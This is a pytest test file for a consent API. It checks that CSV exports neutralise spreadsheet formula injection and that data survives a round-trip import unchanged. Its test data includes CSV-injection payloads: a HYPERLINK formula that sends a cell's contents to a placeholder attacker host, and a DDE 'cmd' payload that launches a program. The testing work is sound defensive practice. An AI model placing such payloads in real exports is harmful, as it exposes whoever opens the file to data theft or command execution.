"""S29: what a table's cells are to a spreadsheet that opens it."""

from __future__ import annotations

import csv
import json

import httpx2 as httpx
import pytest

pytestmark = pytest.mark.anyio

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1)', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1",
    "'=1", "''+1", "'+15555550123",
)  # fmt: skip
TEXTS = ("ada", "'quoted'", "", "a=1", "1-2")


async def test_no_cell_is_worked_out_and_none_is_changed(client: httpx.AsyncClient) -> None:
    names = [name for name in (*FORMULAS, *TEXTS) if name]
    for person in names:
        said = {
            "brand_id": "loop",
            "person_id": person,
            "channel": "email",
            "category": "news",
            "opted_in": True,
        }
        assert (await client.put("/v1/consents", json={**said, "source": person})).status_code == 200
    first = (await client.get("/v1/consents", params={"brand_id": "loop", "format": "csv"})).text
    rows = list(csv.DictReader(first.splitlines(keepends=True)))
    assert len(rows) == len(names)
    for row in rows:
        assert not [cell for cell in row.values() if cell[:1] in set("=+-@\t\r") and not cell[1:].isdigit()]
    media = {"Content-Type": "text/csv"}
    await client.post(
        "/v1/consents/import", params={"brand_id": "loop"}, content=first.encode(), headers=media
    )
    exported = await client.get("/v1/consents", params={"brand_id": "loop"})
    kept = sorted((line["person_id"], line["source"]) for line in map(json.loads, exported.text.splitlines()))
    assert kept == sorted((name, name) for name in names)


async def test_a_number_stays_as_it_is(client: httpx.AsyncClient) -> None:
    body = {"brand_id": "loop", "number": "+15555550123", "reason": "manual", "source": "desk"}
    assert (await client.post("/v1/suppressions", json=body)).status_code in {200, 201}
    table = (await client.get("/v1/suppressions", params={"brand_id": "loop", "format": "csv"})).text
    assert ",+15555550123," in table
